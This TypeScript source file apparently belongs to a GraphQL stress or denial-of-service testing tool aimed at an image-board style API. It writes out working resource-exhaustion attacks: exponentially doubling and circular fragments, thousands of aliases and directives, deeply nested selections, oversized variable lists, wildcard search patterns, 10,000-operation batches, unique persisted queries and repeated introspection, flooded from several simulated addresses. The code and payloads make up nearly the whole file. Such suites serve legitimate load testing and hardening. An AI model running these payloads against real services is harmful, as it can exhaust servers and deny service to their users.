/** GraphQL documents and their variables. */
import { createHash } from "node:crypto";
import { getIntrospectionQuery } from "graphql";
import type { Attack } from "../attack.js";
import { JSON_TYPE, many } from "../payloads.js";
import type { Target } from "../target.js";

/** Levels of the family of 300, as the schema has had it: plain lists, and lists with a length. */
const family = (target: Target, levels: number, first?: number): string => {
  const children = first === undefined ? "children" : `children(first: ${first})`;
  let selection = "{ id tagString source md5 createdAt fileUrl uploaderName }";
  for (let level = 0; level < levels; level += 1) selection = `{ id ${children} { id parent ${selection} } }`;
  return `{ post(id: ${target.facts.parent}) ${selection} }`;
};

const LIST = "query($ids: [Int!]) { comments(search: { id: $ids }) { nodes { id } } }";
const AMOUNT = 20_000;

/** Values that fit no type. */
const ILL = [
  JSON.stringify(Array<string>(AMOUNT).fill("x")),
  `[${many(AMOUNT, () => "{}", ",")}]`,
  JSON.stringify(Array<null>(AMOUNT).fill(null)),
  JSON.stringify(Array.from({ length: AMOUNT }, (_, index) => index / 2)),
];

const asJson = (target: Target, body: string, from = 0) =>
  target.ask({ method: "POST", path: "/graphql", headers: JSON_TYPE, body, from });

const withVariables = (target: Target, query: string, variables: string) =>
  asJson(target, `{"query":${JSON.stringify(query)},"variables":${variables}}`);

/** Fragments each of which spreads the next one twice. */
const doubling = (levels: number): string =>
  `{ ...f0 } ${many(levels, (n) => `fragment f${n} on Query { ...f${n + 1} ...f${n + 1} }`, " ")} fragment f${levels} on Query { viewer { id } }`;

/** Fields of one name that differ in their arguments, to be compared with each other. */
const overlapping = (count: number): string =>
  `{ ${many(count, () => "posts { nodes { id uploader { id name } } }", " ")} ${many(count, (n) => `... on Query { posts { nodes { id uploader { id ...a${n} } } } }`, " ")} } ${many(count, (n) => `fragment a${n} on User { id name ...a${(n + 1) % count} }`, " ")}`;

const introspection = getIntrospectionQuery();
const CIRCLES = `{ __schema { types { fields { type { fields { type { fields { type { fields { name } } } } } } } } } }`;

export const DOCUMENTS = [
  doubling(40),
  `{ ...a } fragment a on Query { ...b } fragment b on Query { ...a }`,
  `{ ${many(7_000, (n) => `a${n}: __typename`, " ")} }`,
  `{ ${many(14_000, () => "__typename", " ")} }`,
  `{ viewer { ${"id ".repeat(14_000)} } }`,
  `{ viewer { id ${"@include(if: true) ".repeat(2_000)} } }`,
  `{ viewer { id ${"@nothing ".repeat(7_000)} } }`,
  `query(${many(3_000, (n) => `$v${n}: Int`, ", ")}) { viewer { id } }`,
  `{ ${many(2_000, (n) => `nothing${n}`, " ")} }`,
  `{ ${many(700, (n) => `posts(nothing${n}: 1) { nodes { id } }`, " ")} }`,
  overlapping(150),
  overlapping(30),
  many(3_000, (n) => `query q${n} { viewer { id } }`, " "),
  many(2_000, (n) => `fragment f${n} on Post { id }`, " "),
  `{ ${"viewer { ".repeat(2_000)} id ${"}".repeat(2_000)} }`,
  `{ ${"... { ".repeat(3_000)} viewer { id } ${"}".repeat(3_000)} }`,
  `{ posts(tags: ${"[".repeat(7_000)}${"]".repeat(7_000)}) { nodes { id } } }`,
  `{ posts(tags: "${"\\u0041".repeat(100_000)}") { nodes { id } } }`,
  `{ comments(search: { id: [${many(14_000, (n) => String(n), " ")}] }) { nodes { id } } }`,
  `# ${"a".repeat(900_000)}\n{ viewer { id } }`,
  " ".repeat(900_000),
  `"""${"a\n ".repeat(200_000)}""" type A { a: Int }`,
  CIRCLES,
  introspection,
  `{ ${many(40, (n) => `s${n}: __schema { types { name fields { name } } }`, " ")} }`,
];

/** The greatest that a page may be, again and again within. */
export const PAGES = [
  "{ posts(first: 65) { nodes { id tags(first: 20) { id name } pools(first: 5) { id } } } }",
  "{ posts(first: 100) { nodes { id tagString uploader { id name } comments(first: 12) { id } } } }",
  "{ users(first: 600) { nodes { id name } } tags(first: 600) { nodes { id name } } }",
  "{ pools(first: 95) { nodes { id postIds posts(first: 20) { id } } } }",
  "{ posts(first: 11) { nodes { id versions(first: 10) { id addedTags removedTags } } } }",
  "{ comments(first: 400) { nodes { id body creator { id name } } totalCount } }",
];

export const documents: readonly Attack[] = [
  {
    name: "row 10: post{children{parent{children}}} of 300 children",
    seconds: 5,
    async send(target) {
      for (const first of [undefined, 300, 100, 20])
        for (const levels of [2, 1, 3]) await target.graphql(family(target, levels, first));
    },
  },
  {
    name: "row 12: 20,000 ill-fitting values in variables",
    seconds: 5,
    async send(target) {
      for (const values of ILL) await withVariables(target, LIST, `{"ids":${values}}`);
      for (const values of ILL)
        await withVariables(target, "query($tags: String) { posts(tags: $tags) { totalCount } }", `{"tags":${values}}`);
      const search = "query($search: CommentSearch) { comments(search: $search) { nodes { id } } }";
      for (const values of ILL) await withVariables(target, search, `{"search":{"id":${values}}}`);
      const unknown = many(20_000, (n) => `"k${n}":1`, ",");
      await withVariables(target, search, `{"search":{${unknown}}}`);
      await withVariables(target, search, `{${unknown}}`);
    },
  },
  {
    name: "lists and texts in variables at their longest",
    send: (target) =>
      target.flood(
        2,
        async () => {
          const ids = Array.from({ length: 100_000 }, (_, index) => index);
          await withVariables(target, LIST, JSON.stringify({ ids }));
          const patterns = `query($p: String) { tags(search: { nameMatches: $p }) { nodes { id } } }`;
          await withVariables(target, patterns, JSON.stringify({ p: "*a".repeat(400_000) }));
          await withVariables(target, patterns, JSON.stringify({ p: "*".repeat(1_000) + "a" }));
        },
        20,
      ),
  },
  {
    name: "documents that are deep, broad, circular or repeat themselves",
    seconds: 5,
    send: (target) =>
      target.flood(2, (turn) => target.graphql(DOCUMENTS[turn % DOCUMENTS.length] ?? ""), 2 * DOCUMENTS.length),
  },
  {
    name: "the costliest pages that a query may have, from 8 addresses",
    seconds: 4,
    send: (target) =>
      target.flood(8, (turn) => target.graphql(PAGES[turn % PAGES.length] ?? "", {}, { from: turn % 8 })),
  },
  {
    name: "the whole schema again and again, from 16 addresses",
    send: (target) => target.flood(8, (turn) => target.graphql(introspection, {}, { from: turn % 16 })),
  },
  {
    name: "the whole schema by another document each time, from 16 addresses",
    send: (target) =>
      target.flood(16, (turn) =>
        target.graphql(`${introspection.replace("IntrospectionQuery", `Q${turn}`)} # ${turn}`, {}, { from: turn % 16 }),
      ),
  },
  {
    name: "lists of 10,000 operations",
    send: (target) => {
      const batch = `[${many(10_000, () => `{"query":"{viewer{id}}"}`, ",")}]`;
      return target.flood(4, () => asJson(target, batch), 100);
    },
  },
  {
    name: "persisted queries, each another one",
    send: (target) =>
      target.flood(
        8,
        (turn) => {
          const query = `{ viewer { id } } # ${turn} ${"a".repeat(400_000)}`;
          const sha256Hash = createHash("sha256").update(query).digest("hex");
          const extensions = { persistedQuery: { version: 1, sha256Hash } };
          return asJson(target, JSON.stringify({ query, extensions }), turn % 8);
        },
        600,
      ),
  },
  {
    name: "queries of 60 kB by GET",
    send: (target) =>
      target.flood(
        8,
        (turn) => {
          const query = encodeURIComponent(`{ viewer { ${"id ".repeat(11_000)} } #${turn}\n}`);
          return target.ask({
            path: `/graphql?query=${query}`,
            headers: { "apollo-require-preflight": "1" },
            from: turn % 8,
          });
        },
        400,
      ),
  },
];
